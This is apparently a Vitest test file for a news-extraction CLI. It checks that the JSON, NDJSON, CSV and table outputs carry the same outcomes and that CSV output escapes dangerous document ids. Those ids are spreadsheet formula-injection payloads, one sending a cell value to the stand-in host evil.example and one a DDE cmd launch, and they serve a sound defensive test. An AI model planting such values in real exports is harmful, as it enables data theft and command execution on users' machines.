// The four output formats carry the same outcomes: JSON and NDJSON one per document, CSV one row per record
// (quoted so it reads back), table a readable block per document; errors keep their place in each.
import { describe, expect, it } from "vitest";
import type { DocumentOutcome } from "../../src/stream/index.js";
import { ndjson, parseCsv, parseLines, runCli } from "./run-cli.js";

const documents = [
  { id: "yonhap-2016-10-12", publishedAt: "2016-10-12", text: 'Thae Yong-ho, a minister at North Korea\'s embassy in London, defected to South Korea with his wife and two sons in late July, "for the future of his children," officials said.' },
  { id: "nk-news-88", text: 12 },
  { id: "ap-2019-01-03", publishedAt: "2019-01-03", text: "Jo Song-gil, the acting North Korean ambassador in Rome, went into hiding with his wife in November, an Italian official said." },
  { id: "health-desk", text: "Doctors warned that the virus can cause birth defects if pregnant women are infected." },
];

async function outcomesAs(format: string): Promise<{ stdout: string; code: number | null }> {
  return runCli(["extract", "--format", format, "--jobs", "1"], { input: ndjson(documents) });
}

const reference = (async () => parseLines((await outcomesAs("ndjson")).stdout) as unknown as DocumentOutcome[])();

function records(outcomes: DocumentOutcome[]) {
  return outcomes.flatMap((outcome) => ("result" in outcome ? outcome.result.records.map((record) => ({ outcome, record })) : []));
}

describe("formats", () => {
  it("ndjson: one outcome per line, the first article yields a record", async () => {
    const outcomes = await reference;
    expect(outcomes.map((outcome) => outcome.id)).toEqual(documents.map((document) => document.id));
    expect(outcomes[1]).toMatchObject({ error: { code: "invalid_text" } });
    expect(records(outcomes.slice(0, 1)).length).toBeGreaterThan(0);
  });

  it("json: a single array equal to the ndjson outcomes", async () => {
    const { stdout, code } = await outcomesAs("json");
    expect(JSON.parse(stdout)).toEqual(await reference);
    expect(code).toBe(1);
  });

  it("json: an empty input is an empty array", async () => {
    const run = await runCli(["extract", "--format", "json"], { input: "" });
    expect(JSON.parse(run.stdout)).toEqual([]);
    expect(run.code).toBe(0);
  });

  it("csv: a header, one row per record and one per failed document, every quoted field read back intact", async () => {
    const { stdout } = await outcomesAs("csv");
    const [header, ...rows] = parseCsv(stdout);
    const column = (row: string[], name: string) => row[header?.indexOf(name) ?? -1];
    const expected = records(await reference);
    expect(header).toContain("evidence");
    expect(rows.every((row) => row.length === header?.length)).toBe(true);
    const recordRows = rows.filter((row) => column(row, "error_code") === "");
    expect(recordRows).toHaveLength(expected.length);
    recordRows.forEach((row, index) => {
      const { outcome, record } = expected[index]!;
      expect(column(row, "document_id")).toBe(outcome.id);
      expect(column(row, "record_id")).toBe(record.id);
      expect(column(row, "evidence")).toBe(record.evidence.map((span) => span.text).join(" | "));
      expect(column(row, "status")).toBe(record.status);
    });
    expect(rows.filter((row) => column(row, "error_code") !== "").map((row) => [column(row, "document_id"), column(row, "error_code")])).toEqual([
      ["nk-news-88", "invalid_text"],
    ]);
  });

  const formulaIds = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tyonhap-1", "\ryonhap-2"];
  const formulaRows = (async () => {
    const run = await runCli(["extract", "--format", "csv", "--jobs", "1"], { input: ndjson(formulaIds.map((id) => ({ id, text: 12 }))) });
    const [header, ...rows] = parseCsv(run.stdout);
    return rows.map((row) => row[header?.indexOf("document_id") ?? -1]);
  })();

  it.each(formulaIds.map((id, index) => [id, index]))("csv: a document id that a spreadsheet would run, %j, is written after a '", async (id, index) => {
    expect((await formulaRows)[index as number]).toBe(`'${id}`);
  });

  it("table: a titled block per document, each record's person and status, errors inline", async () => {
    const { stdout } = await outcomesAs("table");
    const titles = stdout.split("\n").filter((line) => line.startsWith("== "));
    expect(titles.map((line) => line.split(/\s+/)[1])).toEqual(documents.map((document) => document.id));
    expect(titles[1]).toContain("ERROR invalid_text");
    for (const { record } of records(await reference)) {
      expect(stdout).toContain(record.person.name ?? record.person.description ?? "(unnamed)");
      expect(stdout).toContain(`status:       ${record.status}`);
    }
  });
});
